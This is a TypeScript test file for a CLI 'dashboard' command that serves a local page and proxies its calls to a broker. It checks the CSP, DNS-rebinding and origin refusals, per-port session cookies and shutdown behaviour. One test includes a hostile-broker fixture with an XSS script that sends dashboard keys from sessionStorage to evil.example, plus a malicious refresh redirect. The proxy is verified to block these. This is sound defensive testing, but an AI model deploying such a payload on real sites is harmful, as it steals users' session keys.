// `claudemesh dashboard` serves the page itself on 127.0.0.1 and forwards the page's calls to the
// broker (src/cli/dashboard-server.ts, docs/dashboard.md), so that the code reading the keys in the
// link never comes from the broker. Pinned here over HTTP against the real CLI and a real broker:
// what it serves and refuses, cookies that carry its port (two dashboards in one browser keep their
// own sessions), the origin check, a broker that goes away, Ctrl-C, and the refusals at start.
// The page itself runs through it in a real browser in dashboard-browser and dashboard-live.
import { describe, expect, test } from "bun:test";
import { cli, cliTeam, dashboardOnce, dashboardServing } from "../helpers/cli.ts";
import { parseDashboardFragment } from "../../src/client/dashboard-link.ts";
import { PAGE_KEY_HEADER } from "../../src/protocol/dashboard-keys.ts";
import { startLocalDashboard } from "../../src/cli/dashboard-server.ts";

/** Logs in through the served page's origin with its link; returns the Set-Cookie it got and the
 *  session's page key. */
async function login(served: { json: { url: string; local: string } }): Promise<{ setCookie: string; key: string }> {
  const { login: body } = parseDashboardFragment(new URL(served.json.url).hash)!;
  const res = await fetch(`${served.json.local}v1/dashboard/login`, { method: "POST", headers: { "content-type": "application/json", origin: served.json.local.slice(0, -1) }, body: JSON.stringify(body) });
  expect(res.status).toBe(200);
  return { setCookie: res.headers.get("set-cookie")!, key: res.headers.get(PAGE_KEY_HEADER)! };
}

const me = async (local: string, cookie: string, key?: string) => {
  const res = await fetch(`${local}v1/dashboard/me`, { headers: { cookie, ...(key ? { [PAGE_KEY_HEADER]: key } : {}) } });
  return { status: res.status, body: (await res.json()) as any };
};

describe("the page served by claudemesh dashboard", () => {
  test("serves the page and its files with the CSP; refuses other paths, other methods and another Host", async () => {
    await using team = await cliTeam(["alice"]);
    const { b, dirs: [alice] } = team;
    await using served = await dashboardServing(alice);
    const { local } = served.json;
    const page = await fetch(local);
    const html = await page.text();
    expect(page.status).toBe(200);
    expect(html).toBe(await (await fetch(`${b.url}/`)).text()); // the same page the broker's binary holds
    expect(page.headers.get("content-security-policy")).toContain("connect-src 'self'");
    const script = /<script[^>]+src="\/?([^"]+)"/.exec(html)![1]!;
    const js = await fetch(`${local}${script}`);
    expect([js.status, js.headers.get("content-type")]).toEqual([200, expect.stringContaining("javascript")]);
    for (const [method, path] of [["GET", "no-such-file"], ["POST", ""], ["GET", "v1/meshes"], ["GET", "metrics"]] as const) {
      const r = await fetch(`${local}${path}`, { method });
      expect({ path, method, status: r.status, code: ((await r.json()) as any).error.code }).toEqual({ path, method, status: 404, code: "not_found" });
    }
    // A name that resolves to 127.0.0.1 (DNS rebinding) does not make another site this origin.
    const rebound = await fetch(`${local}v1/dashboard/session`, { headers: { host: "evil.example:80" } });
    expect([rebound.status, ((await rebound.json()) as any).error.code]).toEqual([403, "forbidden"]);
  }, 60_000);

  test("a login through it gets a cookie named with its port, not Secure; two dashboards in one browser keep their own sessions", async () => {
    await using team = await cliTeam(["alice", "bob"]);
    const { b, dirs: [alice, bob], mesh: m } = team;
    await using aliceServed = await dashboardServing(alice);
    await using bobServed = await dashboardServing(bob);
    const [alicePort, bobPort] = [aliceServed, bobServed].map((s) => new URL(s.json.local).port);
    const { setCookie: aliceCookie, key: aliceKey } = await login(aliceServed);
    expect(aliceCookie).toMatch(new RegExp(`^cm_dashboard_${alicePort}=[A-Za-z0-9_-]{43}; Path=/; HttpOnly; SameSite=Strict; Max-Age=28800$`));
    expect(aliceKey).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const { setCookie: bobCookie, key: bobKey } = await login(bobServed);
    // A browser sends every 127.0.0.1 cookie to every port: each server takes only its own.
    const jar = [aliceCookie, bobCookie].map((c) => c.split(";")[0]).join("; ");
    expect(await me(aliceServed.json.local, jar, aliceKey)).toMatchObject({ status: 200, body: { member: { memberId: m.members.alice!.memberId } } });
    expect(await me(bobServed.json.local, jar, bobKey)).toMatchObject({ status: 200, body: { member: { memberId: m.members.bob!.memberId } } });
    // The broker's own cookie name is not passed on, nor another port's cookie.
    const bare = aliceCookie.split(";")[0]!.replace(`cm_dashboard_${alicePort}=`, "cm_dashboard=");
    expect((await me(aliceServed.json.local, bare, aliceKey)).status).toBe(401);
    expect((await me(bobServed.json.local, aliceCookie.split(";")[0]!, aliceKey)).status).toBe(401);
    // The cookie without its page key opens nothing: what a page served on another 127.0.0.1 port
    // gets when the browser is sent there (cookies do not tell ports apart), or a key of another
    // session. The broker checks the key; this server passes it on, the live view's query too.
    expect((await me(aliceServed.json.local, jar)).status).toBe(401);
    expect((await me(aliceServed.json.local, jar, bobKey)).status).toBe(401);
    const events = (query: string) => fetch(`${aliceServed.json.local}v1/dashboard/events${query}`, { headers: { cookie: jar } }).then(async (r) => (await r.body?.cancel(), r.status));
    expect([await events(""), await events(`?pageKey=${bobKey}`), await events(`?pageKey=${bobKey},${aliceKey}`)]).toEqual([401, 401, 200]);
    expect(bobPort).not.toBe(alicePort);
    // Stopped (here by its terminal closing), it ends its page's session at the broker: a tab's
    // cookie is then worth nothing to whoever takes the port next. The other one's goes on.
    aliceServed.proc.kill("SIGHUP");
    expect(await aliceServed.proc.exited).toBe(0);
    const atBroker = (c: string, port: string, key: string) => fetch(`${b.url}/v1/dashboard/me`, { headers: { cookie: c.split(";")[0]!.replace(`cm_dashboard_${port}=`, "cm_dashboard="), [PAGE_KEY_HEADER]: key } }).then((r) => r.status);
    expect([await atBroker(aliceCookie, alicePort!, aliceKey), await atBroker(bobCookie, bobPort!, bobKey)]).toEqual([401, 200]);
  }, 60_000);

  test("a state-changing call from another origin is refused before the broker; from the page's own it reaches it", async () => {
    await using team = await cliTeam(["alice"]);
    const { dirs: [alice] } = team;
    await using served = await dashboardServing(alice);
    const { local } = served.json;
    const { setCookie, key } = await login(served);
    const cookie = setCookie.split(";")[0]!;
    const logout = (origin: string) => fetch(`${local}v1/dashboard/logout`, { method: "POST", headers: { cookie, origin, "content-type": "application/json", [PAGE_KEY_HEADER]: key }, body: "{}" });
    const cross = await logout("https://evil.example");
    expect([cross.status, ((await cross.json()) as any).error.code]).toEqual([403, "forbidden"]);
    expect((await me(local, cookie, key)).status).toBe(200); // still signed in
    expect((await logout(local.slice(0, -1))).status).toBe(200);
    expect((await me(local, cookie, key)).status).toBe(401);
  }, 60_000);

  test("a broker that goes away: the page's calls say so (503 unavailable); Ctrl-C stops it with exit 0", async () => {
    await using team = await cliTeam(["alice"]);
    const { b, dirs: [alice] } = team;
    await using served = await dashboardServing(alice);
    const { local } = served.json;
    await b.stop();
    const r = await fetch(`${local}v1/dashboard/session`);
    expect(r.status).toBe(503);
    expect(((await r.json()) as any).error).toMatchObject({ code: "unavailable", retryable: true, message: expect.stringContaining(`The broker at ${b.url} did not answer`) });
    expect((await fetch(local)).status).toBe(200); // the page itself still loads, and says what failed
    served.proc.kill("SIGINT");
    expect(await served.proc.exited).toBe(0);
    expect(await fetch(local).then(() => "answered", () => "closed")).toBe("closed");
  }, 60_000);

  test("a broker under a path prefix: its answers are passed on only as JSON or an event stream, with our headers, never as a page in this origin", async () => {
    // A modified broker (behind a reverse proxy, under a path): a page, which would run next to
    // the keys, and headers of its own.
    await using evil = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: (req) =>
        !new URL(req.url).pathname.startsWith("/mesh/")
          ? new Response("not under /mesh", { status: 404 })
          : new URL(req.url).pathname === "/mesh/health"
          ? Response.json({ ok: true })
          : new URL(req.url).pathname === "/mesh/v1/dashboard/listed"
          ? new Response("<script>alert(1)</script>", { headers: { "content-type": "application/json, text/html" } })
          : new URL(req.url).pathname === "/mesh/v1/dashboard/session"
            ? new Response("<script>fetch('https://evil.example/?k='+sessionStorage.getItem('claudemesh.dashboard.keys'))</script>", { headers: { "content-type": "text/html" } })
            : Response.json({ member: false, operator: false }, { headers: { refresh: "0; url=https://evil.example/", "content-security-policy": "default-src *", "x-evil": "1" } }),
    });
    // The local server alone: the command would first need a member hello, which this one does not
    // answer (a modified broker could).
    const local = startLocalDashboard(`${evil.url.origin}/mesh`);
    await using _stop = { [Symbol.asyncDispose]: () => local.stop() };
    const served = { json: { local: `${local.base}/` } };
    const page = await fetch(`${served.json.local}v1/dashboard/session`);
    expect([page.status, page.headers.get("content-type"), ((await page.json()) as any).error.message]).toEqual([503, expect.stringContaining("application/json"), expect.stringContaining("with 200 text/html, not the dashboard's JSON")]);
    // A list of types (browsers take the last) is not JSON either.
    const listed = await fetch(`${served.json.local}v1/dashboard/listed`);
    expect([listed.status, ((await listed.json()) as any).error.code]).toEqual([503, "unavailable"]);
    const json = await fetch(`${served.json.local}v1/dashboard/me`);
    expect(await json.json()).toEqual({ member: false, operator: false });
    expect([json.headers.get("content-type"), json.headers.get("refresh"), json.headers.get("x-evil"), json.headers.get("content-security-policy")]).toEqual(["application/json;charset=utf-8", null, null, expect.stringContaining("default-src 'self'")]);
    // A body past 1 MiB is refused before it is read in full.
    const big = await fetch(`${served.json.local}v1/dashboard/logout`, { method: "POST", body: "x".repeat(2 << 20) });
    expect(big.status).toBe(413);
  }, 60_000);

  test("refused at start: a bad --port or one in use (exit 2), a broker that cannot be reached (exit 6)", async () => {
    await using team = await cliTeam(["alice"]);
    const { b, dirs: [alice] } = team;
    const bad = await cli(alice, ["dashboard", "--no-open", "--port", "http"]);
    expect({ code: bad.code, stderr: bad.stderr }).toEqual({ code: 2, stderr: expect.stringContaining('--port takes a port number (1–65535), not "http"') });
    await using first = await dashboardServing(alice);
    const port = new URL(first.json.local).port;
    const taken = await cli(alice, ["dashboard", "--no-open", "--port", port]);
    expect({ code: taken.code, stderr: taken.stderr }).toEqual({ code: 2, stderr: expect.stringContaining(`Port ${port} on 127.0.0.1 is in use`) });
    // A free port (for an SSH tunnel, say) is used as given.
    const probe = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response() });
    const free = probe.port!;
    await probe.stop(true);
    const fixed = await dashboardOnce(alice, ["--no-open", "--json", "--port", String(free)]);
    expect({ code: fixed.code, local: fixed.json().local }).toEqual({ code: 0, local: `http://127.0.0.1:${free}/` });
    await b.stop();
    const down = await cli(alice, ["dashboard", "--no-open"]);
    expect({ code: down.code, stdout: down.stdout, stderr: down.stderr }).toEqual({ code: 6, stdout: "", stderr: expect.stringContaining(`Cannot reach the broker at ${b.url}`) });
  }, 60_000);

  test("refused at start for a member who was removed, as every command refuses one, and no link is printed", async () => {
    await using team = await cliTeam(["alice", "bob"]);
    const { dirs: [alice, bob] } = team;
    expect((await cli(alice, ["kick", "bob"])).code).toBe(0);
    const peers = await cli(bob, ["peers"]);
    const dashboard = await cli(bob, ["dashboard", "--no-open"]);
    expect({ code: dashboard.code, stdout: dashboard.stdout, stderr: dashboard.stderr }).toEqual({ code: peers.code, stdout: "", stderr: peers.stderr });
    expect(peers.code).not.toBe(0);
  }, 60_000);
});

describe("the sessions it ends at stop", () => {
  test("the sessions the broker opened through it, not every cookie a page sent", async () => {
    // A stand-in broker: each login opens session sN; logouts are recorded.
    const logouts: string[] = [];
    let n = 0;
    using broker = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch(req) {
        const path = new URL(req.url).pathname;
        const json = (body: unknown, headers: Record<string, string> = {}) => Response.json(body, { headers });
        if (path === "/v1/dashboard/login") return json({}, { "set-cookie": `cm_dashboard=s${++n}; Path=/; HttpOnly; SameSite=Strict` });
        if (path === "/v1/dashboard/logout") return logouts.push(req.headers.get("cookie") ?? ""), json({});
        return json({});
      },
    });
    const local = startLocalDashboard(`http://127.0.0.1:${broker.port}`);
    const call = (path: string, cookie?: string) => fetch(`${local.base}${path}`, { method: path.endsWith("login") ? "POST" : "GET", headers: { "content-type": "application/json", ...(cookie ? { cookie } : {}) }, ...(path.endsWith("login") ? { body: "{}" } : {}) });
    for (let i = 0; i < 40; i++) await call("/v1/dashboard/me", `cm_dashboard_${local.port}=junk${i}`);
    await call("/v1/dashboard/login");
    await call("/v1/dashboard/login");
    await local.stop();
    expect(logouts.sort()).toEqual(["cm_dashboard=s1", "cm_dashboard=s2"]);
  });
});
